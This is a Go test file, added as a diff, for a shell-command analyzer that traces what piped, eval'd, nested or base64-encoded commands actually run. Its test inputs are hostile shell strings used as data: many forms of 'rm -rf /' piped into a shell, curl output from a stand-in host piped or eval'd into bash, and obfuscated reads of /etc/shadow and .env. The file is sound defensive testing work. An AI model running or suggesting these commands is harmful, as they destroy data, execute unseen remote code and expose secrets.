@@ -1,0 +1,287 @@
+package shell
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+// TestStdinIntoNestedCode: code the analysis reads (eval, sh -c, bash
+// -c, functions, compound commands) reads what the command that runs it
+// reads: a script piped into a shell inside it is seen for what it is.
+func TestStdinIntoNestedCode(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		name string
+		src  string
+	}{
+		{"plain", "printf 'rm -rf /\\n' | bash"},
+		{"eval", `printf 'rm -rf /\n' | eval "bash"`},
+		{"eval with wrapper", `printf 'rm -rf /\n' | eval "nice -n 5 /bin/sh"`},
+		{"bash -c", `printf 'rm -rf /\n' | bash -c "sh"`},
+		{"bash -c nohup", `printf 'rm -rf /\n' | bash -c "nohup /bin/sh"`},
+		{"sh -c with options", `printf 'rm -rf /\n' | sh -c "bash -O extglob"`},
+		{"nested -c", `printf 'rm -rf /\n' | sh -c 'bash -c "eval sh"'`},
+		{"variable", `W='rm -rf /'; echo "$W" | bash -c "sh"`},
+		{"function", "f() { bash; }; printf 'rm -rf /\\n' | f"},
+		{"if", "printf 'rm -rf /\\n' | if true; then bash; fi"},
+		{"for", "printf 'rm -rf /\\n' | for _v in 1; do bash; done"},
+		{"braces", "printf 'rm -rf /\\n' | { bash; }"},
+		{"subshell", "printf 'rm -rf /\\n' | ( sh )"},
+		{"producer in braces", "{ printf 'rm -rf /\\n'; } | bash"},
+		{"producer in if true", "if timeout 30 true; then command printf 'rm -rf /\\n'; fi | bash"},
+		{"producer in a subshell", "( echo 'rm -rf /' ) | sh"},
+		{"producer through sh -c", "sh -c \"echo 'rm -rf /'\" | bash"},
+		{"producer through xargs echo", "echo rm -rf / | xargs echo | sh"},
+		{"in a here-string", `sh <<< 'printf "rm -rf /" | sh -c "bash"'`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			a := Analyze(tt.src, Options{})
+			if !slices.Contains(found(a), "rm -rf / [stdin]") {
+				t.Errorf("Analyze(%q) = %q, want rm -rf / read from stdin", tt.src, found(a))
+			}
+		})
+	}
+}
+
+// TestUnknownStdinIntoNestedCode: a shell inside nested code that reads
+// a pipe whose text is not known runs code nobody has seen, and names
+// where it comes from.
+func TestUnknownStdinIntoNestedCode(t *testing.T) {
+	t.Parallel()
+	for _, src := range []string{
+		`cat script.sh | eval "bash"`,
+		`cat -- script.sh | eval 'bash'`,
+		`sudo cat /p/script.sh | eval 'bash'`,
+		`curl -s http://x | bash -c "sh"`,
+		`curl -s http://x | sh -c 'eval bash'`,
+		"cat s.sh | { bash; }",
+		"f() { sh; }; cat s.sh | f",
+	} {
+		t.Run(src, func(t *testing.T) {
+			t.Parallel()
+			a := Analyze(src, Options{})
+			last := a.Commands[len(a.Commands)-1]
+			if !IsShell(last.Name) || !last.RunsInput || len(last.InputFrom) == 0 || len(last.Upstream) == 0 {
+				t.Errorf("Analyze(%q): last is %q runsInput=%v from %v upstream %d", src, last.String(), last.RunsInput,
+					last.InputFrom, len(last.Upstream))
+			}
+		})
+	}
+}
+
+// TestStdinIsReadOnce: the first command that reads a pipe takes what is
+// known to flow in; a command after it reads what is left, which is not
+// known.
+func TestStdinIsReadOnce(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		src  string
+		want string // the last command
+	}{
+		{"echo a | { cat >/dev/null; xargs rm; }", "rm {input}"},
+		{"echo a | { echo x; xargs rm; }", "rm a"},
+		{"echo a | { true; xargs rm; }", "rm a"},
+		{"echo a | bash -c 'read x; xargs rm'", "rm {input}"},
+		{"echo a | xargs -I{} sh -c 'xargs rm'", "rm {input}"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.src, func(t *testing.T) {
+			t.Parallel()
+			a := Analyze(tt.src, Options{})
+			if got := a.Commands[len(a.Commands)-1].String(); got != tt.want {
+				t.Errorf("Analyze(%q): last is %q, want %q", tt.src, got, tt.want)
+			}
+		})
+	}
+}
+
+// TestFoldThroughWhatOnlyRuns: a substitution folds through what only
+// runs the command that prints (transparent wrappers, xargs echo, if
+// true, sh -c, eval, functions, subshells), and known input flows into
+// xargs the same way.
+func TestFoldThroughWhatOnlyRuns(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		name string
+		src  string
+		want []string // the words of the last command
+	}{
+		{"nice -n", `kubectl describe $(nice -n 5 echo "pod nginx")`, []string{"kubectl", "describe", "pod", "nginx"}},
+		{"stdbuf", `kubectl describe $(stdbuf -oL echo "pod nginx")`, []string{"kubectl", "describe", "pod", "nginx"}},
+		{"timeout", `kubectl describe $(timeout 30 echo "pod nginx")`, []string{"kubectl", "describe", "pod", "nginx"}},
+		{"command", `rm -rf $(command printf /)`, []string{"rm", "-rf", "/"}},
+		{"builtin", `rm -rf $(builtin printf /)`, []string{"rm", "-rf", "/"}},
+		{"env", `cat "$(env echo .env)"`, []string{"cat", ".env"}},
+		{"nohup", `rm -rf $(nohup printf /)`, []string{"rm", "-rf", "/"}},
+		{"time", `cat "$(time echo .env)"`, []string{"cat", ".env"}},
+		{"xargs echo", `cat "$(echo LmVudg== | xargs echo | base64 -d)"`, []string{"cat", ".env"}},
+		{"xargs alone", `cat "$(echo .env | xargs)"`, []string{"cat", ".env"}},
+		{"nohup xargs echo", `cat "$(echo LmVudg== | nohup xargs echo | base64 -d)"`, []string{"cat", ".env"}},
+		{"if true", `cat "$(if true; then echo LmVudg==; fi | base64 -d)"`, []string{"cat", ".env"}},
+		{"bash -c filter", `cat "$(echo LmVudg== | bash -c 'base64 -d')"`, []string{"cat", ".env"}},
+		{"sh -c filter", `cat "$(echo LmVudg== | sh -c "base64 -d")"`, []string{"cat", ".env"}},
+		{"eval filter", `cat "$(echo LmVudg== | ( eval "base64 -d" ))"`, []string{"cat", ".env"}},
+		{"nohup filter", `cat "$(echo LmVudg== | nohup base64 -d)"`, []string{"cat", ".env"}},
+		{"here-string filter", `cat "$(base64 -d <<< LmVudg==)"`, []string{"cat", ".env"}},
+		{"function", `f() { echo .env; }; cat "$(f)"`, []string{"cat", ".env"}},
+		{"list", `cat "$(cd /; printf .e; printf nv)"`, []string{"cat", ".env"}},
+		{"for over words", `cat $(for x in a b; do echo $x; done)`, []string{"cat", "a", "b"}},
+		{"pwd after cd", `cat "$(cd /etc; pwd)/shadow"`, []string{"cat", "/etc/shadow"}},
+		{"script read from a pipe", `cat "$(echo 'echo .env' | bash)"`, []string{"cat", ".env"}},
+
+		// Known input reaches xargs through the same.
+		{"xargs after xargs echo", "echo /etc/shadow | xargs echo | timeout 30 xargs cat", []string{"cat", "/etc/shadow"}},
+		{"xargs after sh -c", `sh -c "echo /etc/shadow" | xargs cat`, []string{"cat", "/etc/shadow"}},
+		{"xargs after if true", "if true; then echo /etc/shadow; fi | xargs cat", []string{"cat", "/etc/shadow"}},
+		{"xargs after subshell", "( echo /etc/shadow ) | xargs cat", []string{"cat", "/etc/shadow"}},
+		{"xargs in sh -c", `echo -if .env src | sh -c "xargs rg"`, []string{"rg", "-if", ".env", "src"}},
+		{"xargs quoting", `printf '%s\n' "'a b'" 'c\ d' | xargs rm`, []string{"rm", "a b", "c d"}},
+
+		// What may not run, or not only once, or writes elsewhere.
+		{"sudo", `rm -rf /$(sudo echo tmp)`, []string{"rm", "-rf", "/$(sudo echo tmp)"}},
+		{"and", `rm -rf /$(echo -n tmp && echo x)`, []string{"rm", "-rf", "/$(echo -n tmp && echo x)"}},
+		{"or", `rm -rf /$(false || echo tmp)`, []string{"rm", "-rf", "/$(false || echo tmp)"}},
+		{"if on a condition", `rm -rf /$(if [ -e x ]; then echo tmp; fi)`, []string{"rm", "-rf", "/$(if [ -e x ]; then echo tmp; fi)"}},
+		{"else of if true", `rm -rf /$(if true; then :; else echo tmp; fi)`, []string{"rm", "-rf", "/"}},
+		{"while", `rm -rf /$(while true; do echo tmp; done)`, []string{"rm", "-rf", "/$(while true; do echo tmp; done)"}},
+		{"break", `rm -rf /$(for x in a b; do echo $x; break; done)`, []string{"rm", "-rf", "/$(for x in a b; do echo $x; break; done)"}},
+		{"exit", `rm -rf /$(echo -n t; exit; echo mp)`, []string{"rm", "-rf", "/$(echo -n t; exit; echo mp)"}},
+		{"background", `rm -rf /$(echo tmp &)`, []string{"rm", "-rf", "/$(echo tmp &)"}},
+		{"redirected", `rm -rf /$(echo tmp > f)`, []string{"rm", "-rf", "/$(echo tmp > f)"}},
+		{"stderr joins", `rm -rf /$(echo tmp 2>&1)`, []string{"rm", "-rf", "/$(echo tmp 2>&1)"}},
+		{"stderr elsewhere", `rm -rf /$(echo tmp 2>/dev/null)`, []string{"rm", "-rf", "/tmp"}},
+		{"assignment", `rm -rf /$(X=1 echo tmp)`, []string{"rm", "-rf", "/$(X=1 echo tmp)"}},
+		{"xargs -n", `cat "$(echo a b | xargs -n1 echo)"`, []string{"cat", "$(echo a b | xargs -n1 echo)"}},
+		{"xargs -0", `echo a b | xargs -0 rm`, []string{"rm", "{input}"}},
+		{"xargs open quote", `echo "'a" | xargs rm`, []string{"rm", "{input}"}},
+		{"sudo sh -c", `rm -rf /$(sudo sh -c 'echo tmp')`, []string{"rm", "-rf", "/$(sudo sh -c 'echo tmp')"}},
+		{"fish", `rm -rf /$(fish -c 'echo tmp')`, []string{"rm", "-rf", "/$(fish -c 'echo tmp')"}},
+		{"zsh", `rm -rf /$(zsh -c 'echo tmp')`, []string{"rm", "-rf", "/$(zsh -c 'echo tmp')"}},
+		{"echo escapes", `rm -rf "/$(sh -c 'echo "t\mp"')"`, []string{"rm", "-rf", "/$(sh -c 'echo \"t\\mp\"')"}},
+		{"echo -n", `rm -rf "/$(echo -n t; echo mp)"`, []string{"rm", "-rf", "/tmp"}},
+		{"printf hex", `cat "$(printf '\x2eenv')"`, []string{"cat", "$(printf '\\x2eenv')"}},
+		{"printf octal", `cat "$(printf '\056env')"`, []string{"cat", ".env"}},
+		{"printf width", `cat "$(printf '%5s' .env)"`, []string{"cat", "$(printf '%5s' .env)"}},
+		{"printf -v", `rm -rf /$(printf -v x tmp)`, []string{"rm", "-rf", "/$(printf -v x tmp)"}},
+		{"trap", `rm -rf /$(trap 'echo tmp' EXIT)`, []string{"rm", "-rf", "/$(trap 'echo tmp' EXIT)"}},
+		{"find -exec", `rm -rf /$(find . -exec echo tmp \;)`, []string{"rm", "-rf", "/$(find . -exec echo tmp \\;)"}},
+		{"eval of unknown", `rm -rf /$(eval "$X")`, []string{"rm", "-rf", "/$(eval \"$X\")"}},
+		{"file", `rm -rf "/$(< list)"`, []string{"rm", "-rf", "/$(< list)"}},
+		{"assignment alone", `rm -rf "/tmp$(x=1)"`, []string{"rm", "-rf", "/tmp"}},
+		{"function called by command", `echo() { printf tmp; }; rm -rf "/$(command echo)"`, []string{"rm", "-rf", "/$(command echo)"}},
+		{"function called by nice", `echo() { printf tmp; }; rm -rf "/$(nice echo)"`, []string{"rm", "-rf", "/$(nice echo)"}},
+		{"function in a child shell", `echo() { printf tmp; }; rm -rf "/$(bash -c echo)"`, []string{"rm", "-rf", "/$(bash -c echo)"}},
+		{"function under xargs", `echo() { printf tmp; }; rm -rf "/$(echo a | xargs echo)"`, []string{"rm", "-rf", "/$(echo a | xargs echo)"}},
+		{"function in its child shell", `rm -rf "/$(bash -c 'f() { echo tmp; }; f')"`, []string{"rm", "-rf", "/tmp"}},
+		{"function in a subshell", `f() { echo tmp; }; rm -rf "/$( (f) )"`, []string{"rm", "-rf", "/tmp"}},
+		{"sh -e", `rm -rf "/$(sh -ec 'false; echo tmp')"`, []string{"rm", "-rf", "/$(sh -ec 'false; echo tmp')"}},
+		{"test", `rm -rf "/$([ -e x ]; echo tmp)"`, []string{"rm", "-rf", "/$([ -e x ]; echo tmp)"}},
+		{"toplevel elsewhere", `rm -rf "$(cd /; git rev-parse --show-toplevel)"`, []string{"rm", "-rf", "$(cd /; git rev-parse --show-toplevel)"}},
+		{"xargs with no input", `rm -rf "/$(printf '' | xargs echo; echo tmp)"`, []string{"rm", "-rf", "/$(printf '' | xargs echo; echo tmp)"}},
+		{"pipe with stderr", `echo /etc/shadow |& xargs cat`, []string{"cat", "{input}"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			a := Analyze(tt.src, Options{Cwd: "/p", Home: "/home/u"})
+			if got := a.Commands[len(a.Commands)-1].Words(); !slices.Equal(got, tt.want) {
+				t.Errorf("Analyze(%q): last is %q, want %q", tt.src, got, tt.want)
+			}
+		})
+	}
+}
+
+// TestGeneratedCodeOfSetupCommands: eval or source of what a shell set-up
+// command prints is asked about, also when the set-up command is reached
+// through what only runs it; anything else that writes the code makes it
+// code nobody has seen.
+func TestGeneratedCodeOfSetupCommands(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		src  string
+		want ProblemKind
+	}{
+		{`eval "$(pyenv init -)"`, ProblemGeneratedCode},
+		{`eval "$(echo - | xargs pyenv init)"`, ProblemGeneratedCode},
+		{`eval "$(echo - | xargs pyenv i\nit)"`, ProblemGeneratedCode},
+		{`eval "$(bash -c 'echo -' | x''args pyenv init)"`, ProblemGeneratedCode},
+		{`eval "$(time echo - | xargs echo | xargs pyenv init)"`, ProblemGeneratedCode},
+		{`eval "$(echo shellenv | xargs /opt/homebrew/bin/brew)"`, ProblemGeneratedCode},
+		{`eval "$(echo zsh | xargs nice -n 5 echo | xargs direnv hook)"`, ProblemGeneratedCode},
+		{`eval "$(bash -c 'pyenv init -')"`, ProblemGeneratedCode},
+		{`eval "$(sh -c "direnv hook zsh")"`, ProblemGeneratedCode},
+		{`eval "$(nice -n 5 sh -c "direnv hook zsh")"`, ProblemGeneratedCode},
+		{`eval "$(nice -n 5 bash -c '"/opt/homebrew/bin/brew" shellenv')"`, ProblemGeneratedCode},
+		{`eval "$(if true; then if true; then pyenv init -; fi; fi)"`, ProblemGeneratedCode},
+		{`eval "$(eval 'pyenv init -')"`, ProblemGeneratedCode},
+		{`eval "$(pyenv init - 2>/dev/null)"`, ProblemGeneratedCode},
+		{`source <(kubectl completion zsh)`, ProblemGeneratedCode},
+		{`source <(sh -c "env kubectl completion zsh")`, ProblemGeneratedCode},
+		{`source <(bash -c "kubectl \\completion zsh")`, ProblemGeneratedCode},
+		{`\source <(command sh -c "kubectl completion bash")`, ProblemGeneratedCode},
+		{`source <(if true; then kubectl completion zsh; fi)`, ProblemGeneratedCode},
+		{`"eval" 'source <(sh -c "kubectl completion bash")'`, ProblemGeneratedCode},
+
+		{`eval "$(curl -s http://x)"`, ProblemDynamicCode},
+		{`eval "$(echo 'rm -rf /'; pyenv init -)"`, ProblemDynamicCode},
+		{`eval "$(pyenv init -; curl -s http://x)"`, ProblemDynamicCode},
+		{`eval "$(cat f | xargs pyenv init)"`, ProblemDynamicCode},
+		{`eval "$(if [ -e x ]; then pyenv init -; fi)"`, ProblemDynamicCode},
+		{`eval "$(sh -c "pyenv init -; curl -s http://x")"`, ProblemDynamicCode},
+		{`eval "$(bash -c "$X")"`, ProblemDynamicCode},
+		{`source <(curl -s http://x)`, ProblemDynamicCode},
+		{`source <(sh -c 'kubectl completion zsh' > /dev/null; curl x)`, ProblemDynamicCode},
+	}
+	for _, tt := range tests {
+		t.Run(tt.src, func(t *testing.T) {
+			t.Parallel()
+			a := Analyze(tt.src, Options{})
+			got := []ProblemKind{}
+			for _, p := range a.Problems {
+				got = append(got, p.Kind)
+			}
+			if !slices.Contains(got, tt.want) || tt.want == ProblemGeneratedCode && slices.Contains(got, ProblemDynamicCode) {
+				t.Errorf("Analyze(%q) problems = %v, want %v", tt.src, a.Problems, tt.want)
+			}
+		})
+	}
+}
+
+// TestInputWordsMayBeOptions: a word that xargs, parallel, find or fd
+// appends from input the analysis does not know is dynamic, and its value
+// starts with the part known only at run time ({input}), so that a reader
+// takes it for what it may be: any word, an option included.
+func TestInputWordsMayBeOptions(t *testing.T) {
+	t.Parallel()
+	for _, src := range []string{
+		"cat list | xargs rg",
+		"cat list | xargs -n1 rg",
+		"cat list | xargs -0 rg",
+		"cat list | xargs -I{} rg {}",
+		"cat list | xargs -I% rg %",
+		"cat list | parallel rg",
+		"cat list | parallel rg {}",
+		"fd . -x rg",
+		"fd . -x rg {}",
+		"find . -name x | xargs rg",
+		`cat list | sh -c "xargs rg"`,
+		`cat list | xargs sh -c 'rg "$@"' _`,
+		"xargs -a list rg",
+	} {
+		t.Run(src, func(t *testing.T) {
+			t.Parallel()
+			a := Analyze(src, Options{})
+			last := a.Commands[len(a.Commands)-1]
+			if last.Name != "rg" || len(last.Args) < 2 {
+				t.Fatalf("Analyze(%q): last is %q", src, last.String())
+			}
+			in := last.Args[len(last.Args)-1]
+			if !in.Input || !in.WholeInput || !in.Dynamic || !strings.HasPrefix(in.Value, "{input}") {
+				t.Errorf("Analyze(%q): input word %+v, want a dynamic word wholly of input starting with {input}", src, in)
+			}
+		})
+	}
+}
